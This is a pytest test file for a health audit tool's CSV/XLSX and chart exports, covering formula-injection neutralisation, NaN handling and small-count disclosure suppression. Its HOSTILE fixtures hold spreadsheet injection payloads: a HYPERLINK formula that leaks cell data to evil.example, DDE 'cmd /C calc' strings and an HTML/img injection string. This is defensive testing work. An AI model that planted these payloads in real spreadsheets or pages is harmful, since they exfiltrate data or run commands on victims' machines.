"""Exports: formula injection neutralised in every CSV/XLSX, missing values as empty cells."""

from __future__ import annotations

import csv
import io
import math
import re
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from audit_metrics import export
from audit_metrics.cli import main
from audit_metrics.pipeline import write_table

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)
URL_SHAPED = ("http://evil.example", "https://evil.example/x", "mailto:someone@evil.example",
              "www.evil.example", "ftp://evil.example")


def _frame() -> pl.DataFrame:
    names = [*HOSTILE, *URL_SHAPED, "Elmbury NHS Trust"]
    n = len(names)
    return pl.DataFrame({
        "unit_code": [f"Z{i:02d}" for i in range(n)],
        "unit_name": names,
        "observed": [float(i) for i in range(n)],
        "z": [-1.5, float("nan"), float("inf"), float("-inf"), None, *[0.25] * (n - 5)],
        "status": pl.Series(["within"] * n, dtype=pl.Enum(["within", "alert_high"])),
    })


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _formula_like(rows: list[list[str]]) -> list[str]:
    """CSV cells a spreadsheet would run: text starting with a trigger (numbers such as -1.5 are fine)."""
    return [c for row in rows for c in row if c.startswith(export.FORMULA_TRIGGERS) and not _is_number(c)]


def _check_workbook(data: bytes | Path, original: pl.DataFrame, sheet: str) -> None:
    """Every cell is a value: no formulas, no hyperlinks, no error cells; missing numbers empty."""
    wb = openpyxl.load_workbook(data if isinstance(data, Path) else io.BytesIO(data))
    ws = wb[sheet]
    header = [c.value for c in ws[1]]
    rows = list(ws.iter_rows(min_row=2))
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            assert cell.data_type != "e", (cell.coordinate, cell.value)
            assert cell.hyperlink is None, cell.coordinate
    # xlsx stores CR as the escape _x000D_, which openpyxl returns as is (Excel shows a CR)
    names = [r[header.index("unit_name")].value.replace("_x000D_", "\r") for r in rows]
    for want, got in zip(original["unit_name"], names, strict=True):
        assert got == want  # a string cell, never run: written as it is (no quote shown; #period1)
    z = [r[header.index("z")].value for r in rows]
    for want, got in zip(original["z"], z, strict=True):
        if want is None or not math.isfinite(want):
            assert got is None  # an empty cell, not NaN or #NUM!
        else:
            assert got == want and isinstance(got, float)


def test_excel_download_neutralises_formulas_links_and_nan() -> None:
    frame = _frame()
    xlsx = export.to_excel_bytes(frame, {"filters": {"alliances": [HOSTILE[0]]}, "note": HOSTILE[1]})
    _check_workbook(xlsx, frame, "results")
    readme = openpyxl.load_workbook(io.BytesIO(xlsx))[export.README_SHEET]
    values = [c.value for row in readme.iter_rows() for c in row]
    assert HOSTILE[1] in values  # provenance text (e.g. a chosen alliance): a string cell too, as it is
    assert not [c.coordinate for row in readme.iter_rows() for c in row if c.data_type in {"f", "e"}]


def test_csv_download_neutralises_formulas_and_blanks_nan() -> None:
    frame = _frame()
    rows = list(csv.DictReader(io.StringIO(export.to_csv_bytes(frame).decode("utf-8"), newline="")))
    assert len(rows) == frame.height
    for want, row in zip(frame.iter_rows(named=True), rows, strict=True):
        name = row["unit_name"]
        assert not name.startswith(export.FORMULA_TRIGGERS)
        assert name == ("'" + want["unit_name"] if want["unit_name"].startswith(export.FORMULA_TRIGGERS)
                        else want["unit_name"])
        z = want["z"]
        assert row["z"] == ("" if z is None or not math.isfinite(z) else repr(z))


def test_negative_numbers_stay_numbers() -> None:
    frame = pl.DataFrame({"z": [-2.5], "name": ["-2.5"]})
    text = export.to_csv_bytes(frame).decode()
    assert text.splitlines()[1] == "-2.5,'-2.5"  # a number column untouched; text quoted


def test_hostile_column_name_neutralised() -> None:
    out = export.neutralise_formulas(pl.DataFrame({"=cmd": ["a"]}))
    assert out.columns == ["'=cmd"]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_write_table_is_safe(tmp_path: Path, suffix: str) -> None:
    frame = _frame()
    out = tmp_path / f"t{suffix}"
    write_table(frame, out, sheet="results")
    if suffix == ".xlsx":
        _check_workbook(out, frame, "results")
    else:
        rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
        assert rows and not _formula_like(rows)
        assert "NaN" not in out.read_text() and "inf" not in out.read_text()


def test_cli_run_with_hostile_trust_names(project_copy: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """End to end: trust names from the units file reach the CLI's CSV and XLSX only as text."""
    trusts = project_copy / "sample_data" / "trusts.csv"
    units = pl.read_csv(trusts, infer_schema=False)
    hostile = [*HOSTILE[:4], *URL_SHAPED[:2]]
    names = units["trust_name"].to_list()
    names[: len(hostile)] = hostile
    units.with_columns(pl.Series("trust_name", names)).write_csv(trusts)
    for suffix in (".csv", ".xlsx"):
        out = project_copy / f"results{suffix}"
        assert main(["run", "--indicators", str(project_copy / "indicators.yaml"), "--out", str(out),
                     "--indicator", "lung_cns", "--quiet"]) == 0
        if suffix == ".csv":
            text = out.read_text(encoding="utf-8")
            rows = list(csv.reader(io.StringIO(text, newline="")))
            assert not _formula_like(rows)
            assert "'" + HOSTILE[0] in {c for row in rows for c in row}
            assert ",NaN," not in text
        else:
            wb = openpyxl.load_workbook(out)
            cells = [c for row in wb["results"].iter_rows() for c in row]
            assert not [c.coordinate for c in cells if c.data_type in {"f", "e"} or c.hyperlink is not None]
            assert HOSTILE[1] in {c.value for c in cells}  # as text, without a visible quote
            assert URL_SHAPED[0] in {c.value for c in cells}


# ------------------------------------------------------------------ small-number disclosure control

# Indicator-wide numbers (national rate, phi, tau2...) depend on all ~140 trusts' counts, most of which
# an export does not hold, so they cannot be inverted to one trust's count; the brute force compares
# every other column.
NATIONAL_COLUMNS = {"phi", "tau2", "overdispersion_applied", "overdispersion_note", "overdispersion_p_value",
                    "n_units_overdispersion", "expected_false_alerts", "expected_false_alarms", "method",
                    "q_value", "target", "rate_scale"}


def _same(a: object, b: object) -> bool:
    both_nan = isinstance(a, float) and isinstance(b, float) and math.isnan(a) and math.isnan(b)
    return a == b or both_nan


@pytest.fixture(scope="module")
def sample_run(catalogue_path: Path):
    from audit_metrics.catalogue import load_catalogue
    from audit_metrics.io import load_all
    from audit_metrics.pipeline import run_audit

    loaded = load_catalogue(catalogue_path)
    units, datasets = load_all(loaded)
    return loaded, run_audit(loaded), units, datasets


def test_no_suppressed_row_in_the_outlier_export_gives_its_count_back(sample_run) -> None:
    """Brute force, as an attacker with the tool would: for each suppressed row, recompute the row with
    every count c the symbol can stand for (the real pipeline, with c in place of the unit's count and
    everything else the same), suppress it, and compare with what was exported. At least two counts
    must reproduce the exported row (on main, only the true count did, for all 24 rows: z and p kept;
    with z and p blanked, the flag alone still pinned 3 rows' count to 1)."""
    from audit_metrics import views
    from audit_metrics.catalogue import is_aggregate
    from audit_metrics.pipeline import prepare, run_indicator

    loaded, run, units, datasets = sample_run
    cat = loaded.catalogue
    rule = cat.defaults.suppression
    flagged = views.outlier_list(views.pooled(run))
    shared, withheld = views.outliers_for_sharing(flagged, rule)
    truth = flagged.with_columns(export.status_reveals_count(flagged, rule).alias("pins"))
    small = truth.filter(pl.col("observed").is_between(rule.min_count, rule.max_count))
    assert small.height >= 10  # the sample has small flagged counts to protect
    assert withheld == small["pins"].sum() > 0  # and some whose flag alone would give them away
    compared = [c for c in shared.columns if c not in NATIONAL_COLUMNS]
    checked = 0
    for r in small.iter_rows(named=True):
        exported = shared.filter(pl.col("indicator_id") == r["indicator_id"], pl.col("unit_code") == r["unit_code"])
        if r["pins"]:
            assert exported.height == 0  # left out of the list altogether: nothing to invert
            continue
        spec = next(s for s in cat.indicators if s.id == r["indicator_id"])
        ds = cat.datasets[spec.dataset]
        kw = {"unit_column": ds.unit_column or cat.units.code, "period_column": ds.period_column,
              "aggregate": is_aggregate(spec, cat.datasets)}
        counts, accounting, model, extras = prepare(spec, datasets[spec.dataset], **kw)
        unit = pl.col("unit_code") == r["unit_code"]
        first = pl.col("period") == counts.filter(unit)["period"].min()
        reproducing = []
        for c in range(rule.min_count, rule.max_count + 1):
            changed = counts.with_columns(pl.when(unit & first).then(float(c)).when(unit).then(0.0)
                                          .otherwise(pl.col("observed")).alias("observed"))
            result = run_indicator(spec, run.results[spec.id].options, datasets[spec.dataset], units,
                                   prepared=(changed, accounting, model, extras), **kw)
            row = result.table.filter(pl.col("level") == "trust", unit, pl.col("period") == result.pooled_period)
            row = row.with_columns(views.direction_of().alias("direction"))
            candidate = export.suppress(row, rule)
            mine = [c for c in compared if c in candidate.columns]  # others: another indicator's columns
            assert all(exported[c][0] is None for c in compared if c not in mine)
            if all(_same(a, b) for a, b in zip(candidate.select(mine).row(0), exported.select(mine).row(0),
                                               strict=True)):
                reproducing.append(c)
        assert r["observed"] in reproducing  # the harness reproduces the real export
        assert len(reproducing) >= 2, (r["indicator_id"], r["unit_code"], reproducing)
        checked += 1
    assert checked >= 8


def test_withheld_counts_leave_every_shown_status_ambiguous() -> None:
    # counts 1..7 against a unit's limits: 1 alone is alert_low; 2-6 within; 7 alone alert_high
    statuses = {1: "alert_low", 2: "within", 3: "within", 4: "within", 5: "within", 6: "within", 7: "alert_high"}
    withheld = export._withheld_counts(statuses)
    assert withheld == {1, 7}
    shown = {c: s for c, s in statuses.items() if c not in withheld}
    assert all(list(shown.values()).count(s) >= 2 for s in shown.values())
    # one lonely count: "withheld" would pin it, so a partner is withheld with it: an unflagged count
    # whose status stays shared (here 4, not the nearer 2, which would leave 3 alone)
    assert export._withheld_counts({1: "alarm_low", 2: "alert_low", 3: "alert_low", 4: "within",
                                    5: "within", 6: "within", 7: "within"}) == {1, 4}
    # no partner keeps its group: cascade until every shown status is shared
    assert export._withheld_counts({1: "alert_low", 2: "within", 3: "within", 4: "alert_high",
                                    5: "alert_high"}) == {1, 2, 3}
    assert export._withheld_counts({c: "within" for c in range(1, 8)}) == set()


def test_secondary_suppression_hides_the_next_smallest_count() -> None:
    rule = export.SuppressionSpec()
    frame = pl.DataFrame({"indicator_id": ["a"] * 4 + ["b"] * 3, "observed": [3.0, 20, 12, 40, 2, 5, 30],
                          "expected": [4.0, 18, 11, 35, 3, 4, 33]})
    out = export.suppress_complements(export.suppress(frame, rule), rule, by=["indicator_id"])
    assert out["observed"].to_list() == ["*", "20", "*", "40", "*", "*", "30"]
    assert out["expected"].to_list() == [None, 18, None, 35, None, None, 33]
    assert out["suppressed"].to_list() == [True, False, True, False, True, True, False]


# ------------------------------------------------------------------ charts for a meeting


def test_chart_footnote_against_the_results(sample_run) -> None:
    """Source, period, method and national value: the national value is the national row's
    observed / denominator for the period (the oracle), on the indicator's own scale."""
    from audit_metrics import narrative, sharing

    _, run, _, _ = sample_run
    for ind, period in (("bowel_mort90", None), ("bowel_emergency_dx", "2022/23"), ("lung_cns", None)):
        result = run.results[ind]
        period = period or result.pooled_period
        national = result.table.filter(pl.col("level") == "national", pl.col("period") == period)
        rate = national["observed"][0] / national["denominator"][0]
        lines = sharing.chart_footnote(run, ind, period=period).split("\n")
        assert lines[0].startswith(f"Source: {result.spec.audit}") and lines[0].endswith(f"; {period}")
        assert lines[1].startswith("Method: exact binomial limits") and "95% and 99.8% limits" in lines[1]
        od = result.overdispersion[("trust", period)]
        assert (f"limits widened for overdispersion (tau2 = {od.tau2:.3g})" in lines[1]) is od.applied
        assert lines[2] == f"National value {narrative.format_value(rate, result.spec.multiplier)}"
    assert "2022/23" in sharing.chart_footnote(run, "bowel_emergency_dx", period="2022/23")


def test_annotated_chart_has_footnote_watermark_and_leaves_the_figure_alone() -> None:
    import plotly.graph_objects as go

    from audit_metrics import sharing

    fig = go.Figure(go.Scatter(x=[1, 2], y=[3, 4]), layout={"height": 520, "margin": {"b": 40},
                                                             "legend": {"orientation": "h", "y": -0.18}})
    before = fig.to_dict()
    hostile = 'Source: <a href="http://evil.example">audit</a> & <img src=x>\nMethod: m\nNational value 2.5%'
    spec = sharing.annotate_figure(fig, hostile, synthetic=True)
    assert fig.to_dict() == before  # the (possibly cached, shared) figure is not changed
    notes = {a["name"]: a for a in spec["layout"]["annotations"]}
    assert notes["watermark"]["text"] == sharing.WATERMARK
    text = notes["footnote"]["text"]
    assert "<a " not in text and "<img" not in text and "&lt;a href" in text and "&amp;" in text
    assert text.count("<br>") == 2  # one line each: source, method, national value
    assert spec["layout"]["height"] > 520 and spec["layout"]["margin"]["b"] > 40
    assert spec["layout"]["legend"]["yref"] == "container"  # below the footnote, never over it
    go.Figure(spec)  # a valid figure
    plain = sharing.annotate_figure(fig, None, synthetic=False)
    assert not plain["layout"].get("annotations")


def test_indicator_chart_download_carries_footnote_watermark_and_name() -> None:
    import json

    from streamlit.testing.v1 import AppTest

    app = str(Path(__file__).resolve().parents[1] / "app.py")
    at = AppTest.from_file(app, default_timeout=180)
    at.query_params["view"] = "Indicator"
    at.query_params["indicator"] = "bowel_mort90"
    at.run()
    assert not at.exception
    chart = at.get("plotly_chart")[0]
    spec, config = json.loads(chart.proto.spec), json.loads(chart.proto.config)
    notes = {a.get("name"): a["text"] for a in spec["layout"]["annotations"]}
    assert notes["watermark"] == "SYNTHETIC DATA"  # the bundled sample
    footnote = notes["footnote"].replace("<br>", " ")  # wrapped to fit a phone (test_browser_phone.py)
    assert footnote.startswith("Source: National Bowel Cancer Audit (patients.parquet); 2021/22 to 2023/24")
    assert "National value 2.5%" in footnote
    name = config["toImageButtonOptions"]["filename"]
    assert re.fullmatch(r"funnel_bowel-mort90_trust_2021-22-to-2023-24_\d{4}-\d{2}-\d{2}", name), name


def test_counts_keep_their_precision_in_exports() -> None:
    """A person-time denominator (rate indicators) or a published half count is not rounded on its way out:
    whole numbers are written as integers, others as they are; both are numbers in the workbook."""
    rule = export.SuppressionSpec()
    frame = pl.DataFrame({"observed": [20.0, 6.5, 12.5, 3.0], "denominator": [1234.56, 100.0, 80.0, 50.0],
                          "value": [0.016, 0.065, 0.156, 0.06]})
    out = export.suppress(frame, rule)
    assert out["observed"].to_list() == ["20", "*", "12.5", "*"]
    assert out["denominator"].to_list() == ["1234.56", "100", "80", "50"]
    cells = list(openpyxl.load_workbook(io.BytesIO(export.to_excel_bytes(out, {})))["results"].iter_rows(values_only=True))
    header = list(cells[0])
    assert [r[header.index("denominator")] for r in cells[1:]] == [1234.56, 100, 80, 50]
    assert [r[header.index("observed")] for r in cells[1:]] == [20, "*", 12.5, "*"]
